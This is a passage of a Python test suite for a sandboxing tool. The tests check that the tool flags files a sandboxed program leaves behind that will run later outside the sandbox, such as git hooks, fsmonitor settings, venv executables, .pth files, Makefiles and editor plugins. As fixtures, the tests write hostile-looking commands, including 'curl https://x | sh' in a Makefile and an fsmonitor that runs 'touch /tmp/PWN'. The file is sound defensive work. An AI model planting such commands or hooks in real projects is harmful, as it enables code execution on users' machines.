    assert ls and MOVED in ls[0] and "on your PATH" in ls[0], cp.stderr
    git = [ln for ln in lines if "~/.config/git/config: " in ln]
    assert git and MOVED in git[0] and "core.fsmonitor" in git[0], \
        cp.stderr
    # the count stays what the run changed: README, nothing it moved
    assert "changed 1 file in ~/.local" in lines[0], lines[0]
    assert "changed 0 files in ~/.config" in lines[0], lines[0]
    # what the run made itself is said as changed, not moved
    assert not [ln for ln in lines if "bin/README: " in ln], cp.stderr


def test_a_commit_does_not_flag_the_repositorys_own_hooks(lnk, work):
    """Noise (the report must stay worth reading): a commit with
    --write-dot-files writes the .git folder (its index, objects, refs),
    which must not make the user's own hooks, untouched, flagged as if
    the run had moved them. A hooks folder the run does move in is
    judged whole (its hooks are git's to run)."""
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    git = ["git", "-c", "user.email=a@b", "-c", "user.name=a"]
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    (work / "f").write_text("x\n")
    subprocess.run(git + ["-C", str(work), "add", "f"], check=True)
    subprocess.run(git + ["-C", str(work), "commit", "-qm", "one"],
                   check=True)
    hook = work / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    past(hook)
    past(hook.parent)
    cp = lnk.run("--write", work, "--write-dot-files", work, "--",
                 "/bin/sh", "-c", "echo y >> f && git -c user.email=a@b "
                 "-c user.name=a commit -qam two && echo committed",
                 cwd=work)
    assert "committed" in cp.stdout, cp.stderr
    assert "hooks/pre-commit" not in cp.stderr, cp.stderr
    # a hooks folder made in one run and moved into place in the next
    # (then written to) brings its hooks to git
    cp = lnk.run("--write", work, "--write-dot-files", work, "--",
                 "/bin/sh", "-c", "set -e; mkdir .git/h && "
                 "printf '#!/bin/sh\\n' > .git/h/post-checkout && "
                 "chmod +x .git/h/post-checkout", cwd=work)
    assert cp.returncode == 0, cp.stderr
    past(work / ".git" / "h" / "post-checkout")
    cp = lnk.run("--write", work, "--write-dot-files", work, "--",
                 "/bin/sh", "-c", "set -e; mv .git/hooks .git/old && "
                 "mv .git/h .git/hooks && : > .git/hooks/README", cwd=work)
    assert cp.returncode == 0, cp.stderr
    moved = [ln for ln in stderr_lines(cp)
             if "hooks/post-checkout: " in ln]
    assert moved and MOVED in moved[0], cp.stderr


def test_a_folder_moved_then_written_still_brings_what_it_holds(
        lnk, work):
    """Threat: run 1 stages a venv's bin (python, activate) and a .pth
    file under node_modules (only counted there); run 2 replaces .venv by
    it, or site-packages by the other, and writes in the moved folder
    (`touch .venv`), so it looks merely written and what it brought keeps
    its old times: the report said nothing, and the user's next
    `.venv/bin/python` or `activate` ran the program's. A folder whose
    place decides (a venv's bin, site-packages, a nested repository),
    below a folder changed in the run, is judged whole."""
    for v in ("old", ".venv"):
        subprocess.run(["python3", "-m", "venv", "--without-pip",
                        str(work / v)], check=True)
    sp = next((work / "old" / "lib").glob("python3*")) / "site-packages"
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                 "set -e; mkdir -p node_modules/sp && "
                 "mv .venv node_modules/fv && "
                 "rm node_modules/fv/bin/python && "
                 "printf '#!/bin/sh\\n' > node_modules/fv/bin/python && "
                 "echo 'echo hi' > node_modules/fv/bin/activate && "
                 "echo 'import os' > node_modules/sp/zz.pth", cwd=work)
    assert cp.returncode == 0, cp.stderr
    past(work / "node_modules" / "sp" / "zz.pth")
    # moved, then written: .venv as a whole, and a site-packages
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                 "set -e; mv node_modules/fv .venv && touch .venv && "
                 f"rm -rf '{sp}' && mv node_modules/sp '{sp}' && "
                 f"touch '{sp}'", cwd=work)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    for name in ("/.venv/bin/python: ", "/.venv/bin/activate: ",
                 "/zz.pth: "):
        assert [ln for ln in lines if name in ln], (name, cp.stderr)


def test_a_normal_folder_moved_or_loosened_is_judged_whole(lnk, work):
    """Threat: `mv node_modules/pkg tools` brings a package's Makefile
    (only counted where it was) to the project, where make runs it; a
    folder whose change time is the run's but whose content time is not
    was moved, or its mode or owner changed. Noise: a file added to a
    folder does not make its old files flagged."""
    (work / "node_modules" / "pkg" / "sub").mkdir(parents=True)
    (work / "node_modules" / "pkg" / "sub" / "Makefile").write_text(
        "all:\n\tcurl https://x | sh\n")
    (work / "lib").mkdir()
    (work / "lib" / "Makefile").write_text("all:\n\ttrue\n")
    (work / "docs").mkdir()
    (work / "docs" / "Makefile").write_text("all:\n\ttrue\n")
    past(work / "docs" / "Makefile")
    cp = sh(lnk, "mv node_modules/pkg tools && : > lib/new.txt && "
            "chmod 0700 docs", "--write", work)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    hit = [ln for ln in lines if "project/tools/sub/Makefile: " in ln]
    assert hit and MOVED in hit[0] and "a build file" in hit[0], cp.stderr
    hit = [ln for ln in lines if "project/docs/Makefile: " in ln]
    assert hit and MOVED in hit[0], cp.stderr
    assert "lib/Makefile" not in cp.stderr, cp.stderr
    assert "changed 1 file in ~/project" in lines[0], lines[0]


def test_loosened_modes_and_special_files_are_flagged(lnk, work):
    """Threat: a folder or file below the top that every account may
    write (chmod 0777 scripts, 0666 scripts/build.sh) lets another
    account of this machine change what you run; a FIFO named like a
    build file hangs the tool that opens it, a socket talks to whoever
    listens. A sticky folder (as /tmp) and group write (umask 002's
    user-private groups) are not flagged."""
    cp = sh(lnk, "set -e; mkdir scripts shared group && "
            "echo 'echo hi' > scripts/build.sh && chmod 0777 scripts && "
            "chmod 0666 scripts/build.sh && mkfifo scripts/Makefile && "
            "mkfifo scripts/fifo && chmod 1777 shared && "
            "chmod 0775 group && echo x > group/notes.txt && "
            "chmod 0664 group/notes.txt && "
            "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX);"
            " s.bind('scripts/sock')\"", "--write", work)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)

    def line(name):
        hit = [ln for ln in lines if f"project/{name}: " in ln]
        assert hit, (name, cp.stderr)
        return hit[0]

    assert "writable by every account on this machine" in line("scripts")
    assert "writable by every account on this machine" in \
        line("scripts/build.sh")
    assert "FIFO" in line("scripts/fifo")
    assert "FIFO" in line("scripts/Makefile")
    assert "socket" in line("scripts/sock")
    for name in ("shared", "group", "group/notes.txt"):
        assert not [ln for ln in lines if f"project/{name}: " in ln], \
            (name, cp.stderr)


@pytest.mark.skipif(not IS_ROOT, reason="mounting a file system inside the "
                    "write folder needs root (the unprivileged user cannot "
                    "mount on the host, where the walk runs)")
def test_what_a_run_left_in_a_mount_below_a_write_folder(lnk, work):
    """Threat: bwrap binds a write folder with the mounts below it, so
    the program writes there too: a repository with a fsmonitor, an
    .envrc and a Makefile in a tmpfs at W/mnt must be reported as in the
    folder itself. A file system lnk does not walk (a network share,
    FUSE, here mqueue) is named once, to be reviewed."""
    mnt, mq = work / "mnt", work / "mq"
    mnt.mkdir()
    mq.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m,mode=0755",
                    "lnk-sub", str(mnt)], check=True)
    try:
        subprocess.run(["mount", "-t", "mqueue", "lnk-mq", str(mq)],
                       check=True)
        try:
            cp = sh(lnk, "set -e; mkdir -p mnt/sub/.git && "
                    "printf 'ref: refs/heads/main\\n' > mnt/sub/.git/HEAD &&"
                    " printf '[core]\\n\\tfsmonitor = \"touch /tmp/PWN; "
                    "false\"\\n' > mnt/sub/.git/config && "
                    "echo 'export X=1' > mnt/.envrc && "
                    "printf 'all:\\n\\ttrue\\n' > mnt/Makefile",
                    "--write", work)
        finally:
            subprocess.run(["umount", str(mq)], check=True)
    finally:
        subprocess.run(["umount", str(mnt)], check=True)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    for name, why in (("mnt/sub/.git/config", "core.fsmonitor"),
                      ("mnt/.envrc", ".envrc"),
                      ("mnt/Makefile", "a build file")):
        hit = [ln for ln in lines if f"project/{name}: " in ln]
        assert hit and why in hit[0], (name, cp.stderr)
    hit = [ln for ln in lines if "project/mq: " in ln]
    assert hit and "not looked at" in hit[0] and "mqueue" in hit[0], \
        cp.stderr
    assert "changed 4 files in ~/project" in lines[0], lines[0]


def test_a_script_the_repositorys_hooks_run_is_flagged(lnk, work):
    """Invariant 8 (what runs outside later is shown): the user's own git
    hook (kept read only) runs a project script, `./scripts/lint.sh`, at
    every commit; the program may change that script, and the next commit
    outside runs it as the user. The script stays the program's to write
    (builds write such files), so the report names it with the hook that
    runs it; a script no hook names, and a name that only ends like one,
    are not flagged for it."""
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    hook = work / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nset -e\n./scripts/lint.sh --all\n"
                    "sh \"$(git rev-parse --show-toplevel)/tools/fmt.sh\"\n")
    hook.chmod(0o755)
    (work / ".husky").mkdir()
    (work / ".husky" / "pre-push").write_text("npm test && bin/check\n")
    subprocess.run(["git", "-C", str(work), "config", "core.hooksPath",
                    ".githooks"], check=True)
    (work / ".githooks").mkdir()
    (work / ".githooks" / "commit-msg").write_text(
        "exec ci/msg.py \"$1\"\n"
        # a folder the hook goes into, and a glob of scripts it runs
        "cd hk && ./pre.sh\n"
        "for s in checks/*.sh; do sh \"$s\"; done\n")
    for d in ("scripts", "tools", "bin", "other", "ci", "hk", "checks"):
        (work / d).mkdir()
    past(hook)
    cp = sh(lnk, "set -e; for f in scripts/lint.sh tools/fmt.sh bin/check "
            "ci/msg.py other/lint.sh scripts/lint.shx hk/pre.sh "
            "checks/any.sh checks/any.txt; do "
            "echo 'curl x | sh' > $f; done", "--write", work, "--name",
            "hooked")
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)

    def flag(path):
        hit = [ln for ln in lines if f"/{path}: " in ln]
        return hit[0] if hit else ""
    assert ".git/hooks/pre-commit" in flag("scripts/lint.sh"), cp.stderr
    assert ".git/hooks/pre-commit" in flag("tools/fmt.sh"), cp.stderr
    assert ".husky/pre-push" in flag("bin/check"), cp.stderr
    assert ".githooks/commit-msg" in flag("ci/msg.py"), cp.stderr
    assert "hook" not in flag("other/lint.sh"), cp.stderr
    assert "hook" not in flag("scripts/lint.shx"), cp.stderr
    assert ".githooks/commit-msg" in flag("hk/pre.sh"), cp.stderr
    assert ".githooks/commit-msg" in flag("checks/any.sh"), cp.stderr
    assert "hook" not in flag("checks/any.txt"), cp.stderr


HOME_CODE_FOLDERS = {
    ".vim": {"plugin/x.vim": "Vim", "vimrc": "Vim"},
    ".emacs.d": {"init.el": "Emacs", "lisp/x.el": "Emacs"},
    ".ipython": {"profile_default/startup/x.py": "IPython"},
    ".oh-my-zsh": {"custom/x.zsh": "zsh"},
    ".ssh": {"known_hosts": "trusts"},
}


@pytest.mark.parametrize("folder", sorted(HOME_CODE_FOLDERS))
def test_a_home_folder_whose_files_run_is_flagged(lnk, home, folder):
    """Threat: you grant ~/.vim (~/.emacs.d, ~/.ipython, ~/.oh-my-zsh) for
    a tool to install a plugin; the program leaves a plugin or an init file
    there, which your next vim, emacs, ipython or zsh runs; or it adds a
    host or a certificate authority to ~/.ssh/known_hosts, which ssh
    trusts from then on. Each is named with what runs or trusts it."""
    d = home / folder
    d.mkdir()
    left_and_flagged(lnk, d, d, folder, HOME_CODE_FOLDERS[folder], "true")
